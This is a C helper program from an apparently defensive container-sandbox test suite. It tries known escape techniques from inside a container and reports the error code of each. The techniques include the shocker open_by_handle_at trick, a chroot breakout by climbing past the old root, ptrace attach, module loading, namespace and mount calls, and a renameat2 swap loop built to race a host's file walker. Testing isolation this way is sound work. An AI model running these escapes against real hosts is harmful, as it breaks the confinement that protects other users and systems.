/*
 * escape-helper: the attacks of dev.hull.security's tests that busybox has no applet for, run from
 * inside a container. Each attempt prints one line "NAME=OK" or "NAME=ERRNAME" (EPERM, ESRCH ...),
 * so the test asserts how it failed, not only that it did. Nothing here is harmful if it succeeds:
 * the module is garbage (the kernel would refuse to load it), the key goes to a throwaway keyring,
 * the handle is only opened, the chroot escape only looks for a path.
 *
 *   escape-helper keyctl
 *   escape-helper open-by-handle FILE      (FILE on the host's filesystem, e.g. the bound /etc/hosts)
 *   escape-helper ptrace PID
 *   escape-helper module
 *   escape-helper unshare-mount
 *   escape-helper mount
 *   escape-helper bpf
 *   escape-helper chroot-escape PATH       (PATH exists on the host, not in the container)
 *   escape-helper exchange DIR N           (forever swaps DIR/fI and DIR/pI, I < N, with
 *                                           renameat2 RENAME_EXCHANGE: what a name is changes
 *                                           between a host walker's lstat and its open)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include <linux/bpf.h>

static const char *errname(int e)
{
    switch (e) {
    case 0: return "OK";
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    case EINVAL: return "EINVAL";
    case ENOSYS: return "ENOSYS";
    case EROFS: return "EROFS";
    case ENOEXEC: return "ENOEXEC";
    case EBADF: return "EBADF";
    case ESTALE: return "ESTALE";
    case ENOTDIR: return "ENOTDIR";
    case EOPNOTSUPP: return "EOPNOTSUPP";
    case ENOKEY: return "ENOKEY";
    case EFAULT: return "EFAULT";
    default: {
        static char buf[32];
        snprintf(buf, sizeof buf, "E%d", e);
        return buf;
    }
    }
}

static void report(const char *name, long r)
{
    printf("%s=%s\n", name, errname(r < 0 ? errno : 0));
    fflush(stdout);
}

static int keyctl_cmd(void)
{
    /* the kernel keyring is not namespaced: docker's profile (and Hull's) refuses these */
    report("add_key", syscall(SYS_add_key, "user", "hull-escape", "x", 1, -2 /* KEY_SPEC_PROCESS_KEYRING */));
    report("keyctl", syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, "hull-escape"));
    report("request_key", syscall(SYS_request_key, "user", "hull-escape", NULL, 0));
    return 0;
}

static int open_by_handle_cmd(const char *file)
{
    /* shocker: the handle of the root directory of an ext4 filesystem is inode 2, generation 0 */
    int mfd = open(file, O_RDONLY);
    if (mfd < 0) { report("open-mount-file", -1); return 1; }
    struct { unsigned int bytes; int type; unsigned int ino; unsigned int gen; } h = { 8, 1, 2, 0 };
    long r = syscall(SYS_open_by_handle_at, mfd, &h, O_RDONLY | O_DIRECTORY);
    report("open_by_handle_at", r);
    return 0;
}

static int ptrace_cmd(const char *pidtext)
{
    pid_t pid = atoi(pidtext);
    report("kill0", kill(pid, 0));
    long r = ptrace(PTRACE_SEIZE, pid, 0, 0);
    report("ptrace_seize", r);
    if (r == 0) ptrace(PTRACE_DETACH, pid, 0, 0);
    r = ptrace(PTRACE_ATTACH, pid, 0, 0);
    report("ptrace_attach", r);
    if (r == 0) { waitpid(pid, NULL, __WALL); ptrace(PTRACE_DETACH, pid, 0, 0); }
    return 0;
}

static int module_cmd(void)
{
    static const char garbage[64] = "not an ELF module, never loadable";
    report("init_module", syscall(SYS_init_module, garbage, sizeof garbage, ""));
    int fd = open("/dev/null", O_RDONLY);
    report("finit_module", syscall(SYS_finit_module, fd, "", 0));
    report("delete_module", syscall(SYS_delete_module, "hull_escape_no_such_module", O_NONBLOCK));
    return 0;
}

static int unshare_mount_cmd(void)
{
    long r = unshare(CLONE_NEWUSER);
    report("unshare_user", r);
    if (r == 0) {
        /* root in a new user namespace: a new mount namespace and a mount would follow */
        report("unshare_mnt_in_userns", unshare(CLONE_NEWNS));
        report("mount_in_userns", mount("none", "/mnt", "tmpfs", 0, NULL));
    }
    report("unshare_mnt", unshare(CLONE_NEWNS));
    report("unshare_cgroup", unshare(CLONE_NEWCGROUP));
    return 0;
}

static int mount_cmd(void)
{
    report("mount_tmpfs", mount("none", "/mnt", "tmpfs", 0, NULL));
    report("mount_bind", mount("/", "/mnt", NULL, MS_BIND, NULL));
    report("mount_proc", mount("proc", "/mnt", "proc", 0, NULL));
    report("remount_sys_rw", mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
    report("umount_proc_sys", umount2("/proc/sys", MNT_DETACH));
    return 0;
}

static int bpf_cmd(void)
{
    union bpf_attr a;
    memset(&a, 0, sizeof a);
    a.map_type = BPF_MAP_TYPE_ARRAY;
    a.key_size = 4;
    a.value_size = 4;
    a.max_entries = 1;
    long r = syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a);
    report("bpf_map_create", r);
    if (r >= 0) close((int)r);
    return 0;
}

static int chroot_escape_cmd(const char *path)
{
    /* the classic: chroot into a subdirectory while holding the old root, climb, chroot there */
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/hull-jail", 0700);
    report("chroot_jail", chroot("/tmp/hull-jail"));
    report("fchdir_out", fchdir(outside));
    for (int i = 0; i < 256; i++) {
        if (chdir("..")) break;
    }
    report("chroot_up", chroot("."));
    struct stat st;
    printf("host_path_visible=%s\n", stat(path, &st) == 0 ? "YES" : "no");
    return 0;
}

static int exchange_cmd(const char *dir, int n)
{
    int d = open(dir, O_RDONLY | O_DIRECTORY);
    if (d < 0) { perror(dir); return 1; }
    char a[32], b[32];
    for (;;) {
        for (int i = 0; i < n; i++) {
            snprintf(a, sizeof a, "f%d", i);
            snprintf(b, sizeof b, "p%d", i);
            syscall(SYS_renameat2, d, a, d, b, 2 /* RENAME_EXCHANGE */);
        }
    }
}

int main(int argc, char **argv)
{
    if (argc < 2) { fprintf(stderr, "usage: escape-helper CMD ...\n"); return 2; }
    const char *c = argv[1];
    if (!strcmp(c, "keyctl")) return keyctl_cmd();
    if (!strcmp(c, "open-by-handle") && argc == 3) return open_by_handle_cmd(argv[2]);
    if (!strcmp(c, "ptrace") && argc == 3) return ptrace_cmd(argv[2]);
    if (!strcmp(c, "module")) return module_cmd();
    if (!strcmp(c, "unshare-mount")) return unshare_mount_cmd();
    if (!strcmp(c, "mount")) return mount_cmd();
    if (!strcmp(c, "bpf")) return bpf_cmd();
    if (!strcmp(c, "chroot-escape") && argc == 3) return chroot_escape_cmd(argv[2]);
    if (!strcmp(c, "exchange") && argc == 4) return exchange_cmd(argv[2], atoi(argv[3]));
    fprintf(stderr, "escape-helper: unknown command %s\n", c);
    return 2;
}
